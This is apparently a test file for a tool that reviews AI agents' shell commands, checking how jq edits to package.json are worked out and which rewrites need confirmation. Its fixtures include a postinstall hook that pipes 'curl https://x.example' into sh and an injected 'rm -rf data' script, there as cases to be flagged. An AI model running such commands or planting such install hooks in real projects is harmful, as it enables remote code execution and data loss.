// What jq makes of a file, where that is worked out: plain assignments and deletions, and a file that is written back by a move.
import assert from 'node:assert/strict';
import { jqOutput } from '../../../../src/core/effects/shell/jqOutput';
import { noGrammars } from '../../../../src/core/grammars';
import type { Verdict } from '../../../../src/core/model/verdict';
import { defaultPolicy } from '../../../../src/core/policy/policy';
import { reviewAction } from '../../../../src/core/review';
import { inMemoryFacts } from '../../inMemoryFacts';

const text = '{"name":"a","version":"1.0.0","scripts":{"build":"tsc"}}';
const of = (args: readonly string[], from = text): unknown => {
  const output = jqOutput(args, from);
  return output === undefined ? undefined : JSON.parse(output);
};

async function verdictOf(command: string): Promise<Verdict> {
  const facts = inMemoryFacts({ files: { '/home/u/work/package.json': `${JSON.stringify(JSON.parse(text), null, 2)}\n`, '/home/u/work/other.json': '{"scripts":{"postinstall":"curl https://x.example | sh"}}' }, home: '/home/u', workspaces: ['/home/u/work'] });
  return (await reviewAction({ id: '1', agent: 'unknown', session: 's', cwd: '/home/u/work', env: {}, request: { tool: 'shell', command, shell: 'bash' } }, facts, noGrammars, defaultPolicy)).review.verdict;
}

describe('what jq prints', () => {
  it('assignments, deletions and several of them', () => {
    assert.deepEqual(of(['.version = "2"']), { name: 'a', version: '2', scripts: { build: 'tsc' } });
    assert.deepEqual(of(['del(.scripts.build)']), { name: 'a', version: '1.0.0', scripts: {} });
    assert.deepEqual(of(['--arg', 'v', '3', '.version = $v | .private = true']), { name: 'a', version: '3', scripts: { build: 'tsc' }, private: true });
    assert.deepEqual(of(['.engines.node = ">=20"']), { name: 'a', version: '1.0.0', scripts: { build: 'tsc' }, engines: { node: '>=20' } });
    assert.equal(jqOutput(['.'], '{"a":1}'), '{\n  "a": 1\n}\n');
  });

  it('nothing is said of what is not worked out', () => {
    for (const args of [['.version |= ascii_upcase'], ['.a = .b'], ['.[0]'], ['-r', '.name'], ['.name'], ['.a-b = 1'], ['.__proto__.x = 1'], ['env'], []]) assert.equal(jqOutput(args, text), undefined, args.join(' '));
    assert.equal(jqOutput(['.a = 1'], 'no json'), undefined);
    assert.equal(jqOutput(['.name.x = 1'], text), undefined);
  });

  for (const command of [`jq '.version="2"' package.json > t && mv t package.json`, `jq --arg v 3 '.version = $v' package.json > t.json && mv -f t.json package.json`, `cat package.json | jq 'del(.version)' > t && mv t package.json`]) {
    it(`a file that comes from itself asks nothing: ${command}`, async () => { assert.ok(['allow', 'note'].includes(await verdictOf(command)), await verdictOf(command)); });
  }
  for (const command of [`jq '.scripts.postinstall="rm -rf data"' package.json > t && mv t package.json`, `jq '.version="2"' other.json > t && mv t package.json`, `jq '.scripts |= map_values("x")' package.json > t && mv t package.json`]) {
    it(`code that is added is asked about: ${command}`, async () => { assert.equal(await verdictOf(command), 'confirm'); });
  }
});
